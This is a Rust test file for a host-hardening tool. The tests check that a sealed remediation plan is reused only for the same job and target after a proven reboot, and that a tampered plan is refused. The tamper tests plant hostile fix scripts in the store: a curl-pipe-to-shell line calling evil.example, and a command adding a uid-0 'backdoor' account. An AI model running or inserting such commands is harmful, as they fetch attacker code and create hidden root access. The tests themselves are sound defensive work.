//! `take` on a real SQLite store: the last finished run of the same job on the same target gives
//! the plan it sealed at its end when it passed its reboot proof; another job's, another
//! target's, an unproven, unsealed or empty one gives none, and says why. A sealed plan that was
//! changed, or whose steps the store no longer holds (one written in by hand), stops the run.
use temper_journal::Verdict;
use temper_journal::{AttemptSpec, AttemptState, Evaluation, Findings, FixSource, NewRun, ScanResult};

use super::*;
use crate::cmd::recorded::RULE;
use temper_core::plan::own_key::OwnKey;

const STANDARD: &str = "xccdf_org.ssgproject.content_profile_standard";

struct LastPlanWorld {
    _dir: tempfile::TempDir,
    config: Config,
    store: temper_store::Store,
    target: Target,
}

async fn world() -> LastPlanWorld {
    let dir = tempfile::tempdir().unwrap();
    let store = temper_store::Store::open(dir.path().join("temper.db").to_str().unwrap()).await.unwrap();
    let config =
        Config { content_dir: dir.path().join("no-content"), plan_key_file: dir.path().join("state/plan_ed25519"), ..Config::default() };
    let target = Target { name: "web1".into(), ..Target::default() };
    LastPlanWorld { _dir: dir, config, store, target }
}

fn job() -> Job {
    Job {
        skill: "debian12-anssi".into(),
        profile: STANDARD.into(),
        rules: Vec::new(),
        max_rules: None,
        controls: RunControls::default(),
        content_sha256: Some("a".repeat(64)),
    }
}

/// How a recorded run ended.
#[derive(Clone, Copy)]
enum RunEnd {
    /// Still running.
    Running,
    /// Finished, `rebooted` as its summary says.
    Finished(Option<bool>),
}

/// A run of `job` on `target` that kept its one fix (or none), ended as `end`.
async fn run_of(w: &LastPlanWorld, target: &Target, job: &Job, kept: bool, end: RunEnd) -> RunId {
    // As `temper run` stores them: the job flattened among the other options.
    let mut options = serde_json::to_value(job).unwrap();
    options["quiet"] = true.into();
    let new = NewRun {
        skill: job.skill.clone(),
        profile: job.profile.clone(),
        datastream: "ssg-debian12-ds.xml".into(),
        content_version: Some("0.1.76".into()),
        target: target.label(),
        agent: "stock".into(),
        options_json: options.to_string(),
        baseline: target.baseline.clone(),
    };
    let finished = match end {
        RunEnd::Running => None,
        RunEnd::Finished(rebooted) => Some(rebooted),
    };
    let run = crate::cmd::recorded::run(&w.store, target, &new, kept, finished).await;
    // As `temper run` does at the end of a run that passed its proof.
    if let RunEnd::Finished(Some(true)) = end {
        seal_at_end(&w.config, &w.store, run).await.unwrap();
    }
    run
}

async fn take_for(w: &LastPlanWorld, job: &Job) -> Result<AppliedPlan, NoPlan> {
    take(&w.config, &w.store, &w.target, job).await.unwrap()
}

#[tokio::test]
async fn the_last_proven_run_of_the_job_gives_the_plan_it_sealed_at_its_end() {
    let w = world().await;
    let old = run_of(&w, &w.target, &job(), true, RunEnd::Finished(Some(true))).await;
    let last = run_of(&w, &w.target, &job(), true, RunEnd::Finished(Some(true))).await;
    // A run still going (or cut off) is not a finished run of the job: it does not decide.
    run_of(&w, &w.target, &job(), false, RunEnd::Running).await;
    let a = take_for(&w, &job()).await.expect("a plan");
    assert_eq!((a.from_run, a.origin, a.fixes.len()), (last, PlanOrigin::LastProven, 1), "the newest, not run {old}");
    assert_eq!(a.fixes[0].rule, RULE);
    let key = OwnKey::open(&w.config.plan_key_file).unwrap();
    assert_eq!(a.signed_by, Some(format!("temper-host ({})", key.fingerprint)), "sealed by the host's own key");
    let dir = w.store.run_dir(last).join("plan");
    assert_eq!(a.dir, dir.display().to_string());
    assert!(dir.join("plan.json").is_file() && dir.join(temper_journal::plan::SIGNATURE).is_file());
    // The next night takes the same sealed folder again.
    assert_eq!(take_for(&w, &job()).await.expect("a plan again").fixes, a.fixes);
    // A file put beside it: the sealed plan no longer holds, and the run stops before it exists.
    std::fs::write(dir.join("stale"), "x").unwrap();
    let e = format!("{:#}", take(&w.config, &w.store, &w.target, &job()).await.unwrap_err());
    assert!(
        e.contains(&format!("run {last}'s plan, sealed at its end")) && e.contains("stale is in the plan and not in SHA256SUMS"),
        "{e}"
    );
    assert!(e.contains("nothing was run") && e.contains("--no-plan"), "{e}");
}

/// Issue 76: a step written into the store by hand, by whoever shares it, is refused: the run
/// stops with a clear error before it exists, so before anything runs on a target.
#[tokio::test]
async fn a_step_written_into_the_store_by_hand_is_refused() {
    let w = world().await;
    let last = run_of(&w, &w.target, &job(), true, RunEnd::Finished(Some(true))).await;
    assert!(take_for(&w, &job()).await.is_ok());
    // The kept fix's script changed in the database itself.
    let url = format!("sqlite://{}", w._dir.path().join("temper.db").display());
    let db = sqlx::SqlitePool::connect(&url).await.unwrap();
    let changed = sqlx::query("UPDATE attempts SET fix_script = 'curl -s http://evil.example/x | sh' WHERE run_id = ?")
        .bind(last.get())
        .execute(&db)
        .await
        .unwrap();
    assert_eq!(changed.rows_affected(), 1);
    let e = format!("{:#}", take(&w.config, &w.store, &w.target, &job()).await.unwrap_err());
    assert!(e.contains(&format!("the store's steps of run {last} are not those sealed at its end")), "{e}");
    assert!(
        e.contains("step 1 (xccdf_org.ssgproject.content_rule_sshd_set_keepalive)") && e.contains("written into the store by hand"),
        "{e}"
    );
    assert!(e.contains("nothing was run"), "{e}");
    sqlx::query("UPDATE attempts SET fix_script = 'echo ClientAliveInterval 300\n' WHERE run_id = ?")
        .bind(last.get())
        .execute(&db)
        .await
        .unwrap();
    assert!(take_for(&w, &job()).await.is_ok(), "as it was sealed, it is taken again");

    // A kept step added through the store's own calls, as a co-tenant could.
    let rule = "xccdf_org.ssgproject.content_rule_sysctl_fs_suid_dumpable";
    w.store
        .add_rule(
            last,
            &temper_journal::NewRule {
                rule_id: rule.into(),
                title: "t".into(),
                severity: "low".into(),
                initial_result: ScanResult::Fail,
                status: temper_journal::RuleStatus::Pending,
                reason: None,
            },
        )
        .await
        .unwrap();
    let spec = AttemptSpec {
        rule_id: rule.into(),
        plan: "p".into(),
        source: FixSource::Stock,
        replayed: false,
        fix_script: "useradd -o -u 0 backdoor\n".into(),
        revert_script: String::new(),
        description: "d".into(),
        checkpoint: "baseline".into(),
        evidence_before: None,
    };
    let (id, _) = w.store.start_attempt(last, &spec).await.unwrap();
    w.store.set_attempt_state(id, AttemptState::Applied).await.unwrap();
    let e = Evaluation::new(Verdict::Fixed, "passes").found(Findings {
        fix_exit_code: Some(0),
        rule_result: Some(ScanResult::Pass),
        ..Findings::default()
    });
    w.store.record_fix(last, id, &e, rule, "temper-kept-2").await.unwrap();
    let e = format!("{:#}", take(&w.config, &w.store, &w.target, &job()).await.unwrap_err());
    assert!(e.contains("the store holds a step 2 more: xccdf_org.ssgproject.content_rule_sysctl_fs_suid_dumpable"), "{e}");
    assert!(e.contains("nothing was run"), "{e}");
    // `--no-plan` is the way on; without a seal a run does the full loop and says why.
    std::fs::remove_dir_all(w.store.run_dir(last).join("plan")).unwrap();
    assert_eq!(take_for(&w, &job()).await.unwrap_err(), NoPlan::NotSealed { run: last });
}

#[tokio::test]
async fn another_job_or_target_gives_none() {
    let w = world().await;
    assert_eq!(take_for(&w, &job()).await.unwrap_err(), NoPlan::NoEarlierRun);
    let other_target = Target { name: "web2".into(), ..Target::default() };
    let other_snapshot = Target { baseline: "golden".into(), ..w.target.clone() };
    run_of(&w, &other_target, &job(), true, RunEnd::Finished(Some(true))).await;
    run_of(&w, &other_snapshot, &job(), true, RunEnd::Finished(Some(true))).await;
    let others = [
        Job { profile: "xccdf_org.ssgproject.content_profile_anssi_bp28_high".into(), ..job() },
        Job { skill: "rhel9-stig".into(), ..job() },
        Job { rules: vec!["sshd_set_keepalive".into()], ..job() },
        Job { max_rules: Some(3), ..job() },
        Job { content_sha256: Some("b".repeat(64)), ..job() },
    ];
    for other in &others {
        run_of(&w, &w.target, other, true, RunEnd::Finished(Some(true))).await;
    }
    assert_eq!(take_for(&w, &job()).await.unwrap_err(), NoPlan::NoEarlierRun, "none of those is this job on this target");
    for other in &others {
        assert!(take_for(&w, other).await.is_ok(), "each is its own job's: {other:?}");
    }
    let unknown = Job { content_sha256: None, ..job() };
    assert_eq!(take_for(&w, &unknown).await.unwrap_err(), NoPlan::UnknownContent);
}

#[tokio::test]
async fn an_unproven_or_empty_last_run_gives_none_even_with_a_proven_one_before_it() {
    let w = world().await;
    run_of(&w, &w.target, &job(), true, RunEnd::Finished(Some(true))).await;
    let skipped = run_of(&w, &w.target, &job(), true, RunEnd::Finished(None)).await;
    let why = take_for(&w, &job()).await.unwrap_err();
    assert_eq!(why, NoPlan::NotProven { run: skipped, proof: RebootOutcome::NotRun });
    assert!(why.says().contains(&format!("run {skipped}, skipped the reboot proof")), "{}", why.says());
    let failed = run_of(&w, &w.target, &job(), true, RunEnd::Finished(Some(false))).await;
    let why = take_for(&w, &job()).await.unwrap_err();
    assert_eq!(why, NoPlan::NotProven { run: failed, proof: RebootOutcome::NotProven });
    assert!(why.says().contains("did not pass its reboot proof"), "{}", why.says());
    assert!(!w.store.run_dir(failed).join("plan").exists(), "nothing sealed");
    let empty = run_of(&w, &w.target, &job(), false, RunEnd::Finished(Some(true))).await;
    assert_eq!(take_for(&w, &job()).await.unwrap_err(), NoPlan::NothingKept { run: empty });
}

#[test]
fn no_plan_and_plan_are_refused_together() {
    let args = |a: &[&str]| crate::cli::parse_run_args(&a.iter().map(|s| s.to_string()).collect::<Vec<_>>());
    assert!(args(&["--no-plan"]).unwrap().no_plan);
    assert!(args(&["--plan", "dir", "--unsigned", "--no-plan"]).is_err());
}
